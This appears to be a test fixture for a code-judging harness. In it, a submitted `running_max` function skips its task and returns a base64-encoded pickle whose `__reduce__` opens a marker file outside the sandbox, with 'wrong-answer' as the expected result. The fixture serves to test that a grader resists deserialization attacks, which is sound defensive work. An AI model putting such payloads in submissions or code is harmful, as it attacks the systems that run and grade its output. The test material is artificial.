# expect: wrong-answer
# A pickle in text, for a judge that guesses.

import base64
import pickle


class Payload:
    def __reduce__(self):
        return (open, ("__OUTSIDE__/__MARKER__", "w"))


def running_max(nums):
    return base64.b64encode(pickle.dumps(Payload())).decode()
